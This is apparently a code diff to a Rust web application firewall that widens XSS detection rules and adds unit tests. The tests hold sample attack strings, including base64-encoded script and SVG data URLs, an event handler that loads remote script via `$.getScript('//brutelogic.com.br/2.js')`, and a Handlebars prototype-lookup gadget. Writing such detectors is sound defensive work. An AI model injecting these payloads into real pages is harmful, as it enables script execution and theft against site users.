@@ -128,7 +128,10 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             XSS_TIGHT,
             Regex(
-                r##"\bdata:(?:text/html|image/svg\+xml|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml)|text/(?:javascript|ecmascript|xml))[;,]"##,
+                // Also a data: URL whose base64 body is markup (`<script`, `<svg`,
+                // `<img`, `<iframe`, `<html`, `<body`, `<object`, `<embed`),
+                // whatever type it claims.
+                r##"\bdata:(?:text/html|image/svg\+xml|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml)|text/(?:javascript|ecmascript|xml))[;,]|\bdata:[\w.+/-]{0,60}(?:;[\w.=-]{0,40})*;base64,(?:phnjcmlwd|phn2zy|pgltzy|pglmcmftz|pgh0bww|pgjvzhk|pg9iamvjd|pgvtymvk)"##,
             ),
             "XSS: data: URL with active content",
         ),
@@ -176,9 +179,10 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             XSS,
             // The `=` may be JS-escaped for a string that is later written as
-            // HTML (`onerror\x3dalert(1)`).
+            // HTML (`onerror\x3dalert(1)`); a handler may be given a minified
+            // arrow function (`onload=x=>…`; code written for people spaces it).
             Regex(
-                r##"(?:^|['"`\s/;])on[a-z]{3,}\s*(?:=|\\x3d|\\u003d|\\u\{3d\}|\\0?75)\s*['"`]?\s*[\w$.\[\]'"]+\s*(?:\(|`)"##,
+                r##"(?:^|['"`\s/;])on[a-z]{3,}\s*(?:=|\\x3d|\\u003d|\\u\{3d\}|\\0?75)\s*['"`]?\s*[\w$.\[\]'"]+\s*(?:\(|`)|(?:^|['"`\s/;.])on[a-z]{3,}=(?:[a-z_$][\w$]*|\([\w$,]*\))=>"##,
             ),
             "XSS: event handler injected into an attribute",
         ),
@@ -205,8 +209,9 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 // property name spelled only in escapes; `<` escaped for a JS string
                 // before a tag name; the Function constructor run from a string
                 // (`Function('code')()`, ``Set.constructor`code` ``); markup or a
-                // script URL handed to `write`/`open` as a tagged template.
-                r##"\b(?:top|parent|self|window|frames|globalthis|content|opener)\s*(?:\?\.\s*)?\[[^\]]{0,100}['"`/][^\]]{0,100}\]\s*(?:\?\.\s*)?\(|\[\s*['"`](?:\\(?:[0-7]{2,3}|x[0-9a-f]{2}|u[0-9a-f]{4}))+['"`]\s*\]|\\(?:x3c|u003c|u\{3c\}|0?74)\s*/?\s*(?:script|img|svg|iframe|body|object|embed|style|math|video|audio|details|input|image)\b|\bfunction\s*\(\s*['"`][^'"`]*['"`]\s*\)\s*\(|\.constructor\s*`|\.(?:write(?:ln)?|open)\s*`\s*(?:<|javas|vbs|data:|\\)"##,
+                // script URL handed to `write`/`open` as a tagged template; a
+                // Handlebars `lookup` of `constructor` or `__proto__`.
+                r##"\b(?:top|parent|self|window|frames|globalthis|content|opener)\s*(?:\?\.\s*)?\[[^\]]{0,100}['"`/][^\]]{0,100}\]\s*(?:\?\.\s*)?\(|\[\s*['"`](?:\\(?:[0-7]{2,3}|x[0-9a-f]{2}|u[0-9a-f]{4}))+['"`]\s*\]|\\(?:x3c|u003c|u\{3c\}|0?74)\s*/?\s*(?:script|img|svg|iframe|body|object|embed|style|math|video|audio|details|input|image)\b|\bfunction\s*\(\s*['"`][^'"`]*['"`]\s*\)\s*\(|\.constructor\s*`|\.(?:write(?:ln)?|open)\s*`\s*(?:<|javas|vbs|data:|\\)|\{\{[^}]{0,100}\blookup\b[^}]{0,100}['"](?:constructor|__proto__|prototype)['"]"##,
             ),
             "XSS: script gadget (computed call, escaped name, Function from a string)",
         ),
@@ -326,6 +331,42 @@ mod tests {
         assert!(fires(941240, "<img src=1 onerror\\x3dalert(1)>"));
         assert!(fires(941240, "\" onload\\u003dalert(1)"));
         assert!(!fires(941240, "the onload\\x3d escape"));
+    }
+
+    #[test]
+    fn minified_arrows_given_to_handlers_fire_but_spaced_code_does_not() {
+        assert!(fires(
+            941240,
+            "onload=x=>$.getScript('//brutelogic.com.br/2.js')"
+        ));
+        assert!(fires(941240, "img.onerror=()=>fetch('//x')"));
+        assert!(!fires(941240, "img.onload = () => { draw(); }"));
+        assert!(!fires(941240, "the onload=>handler arrow"));
+    }
+
+    #[test]
+    fn data_urls_carrying_base64_markup_fire_whatever_type_they_claim() {
+        assert!(fires(
+            941190,
+            "<a href=\"data:application/x-x509-user-cert;&NewLine;base64&NewLine;,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">X</a>"
+        ));
+        assert!(fires(
+            941190,
+            "data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
+        ));
+        assert!(!fires(
+            941190,
+            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"
+        ));
+    }
+
+    #[test]
+    fn a_handlebars_lookup_of_the_constructor_fires() {
+        assert!(fires(
+            941260,
+            "{{lookup (lookup this \"constructor\") \"prototype\"}}"
+        ));
+        assert!(!fires(941260, "{{lookup people 'name'}}"));
     }
 
     #[test]
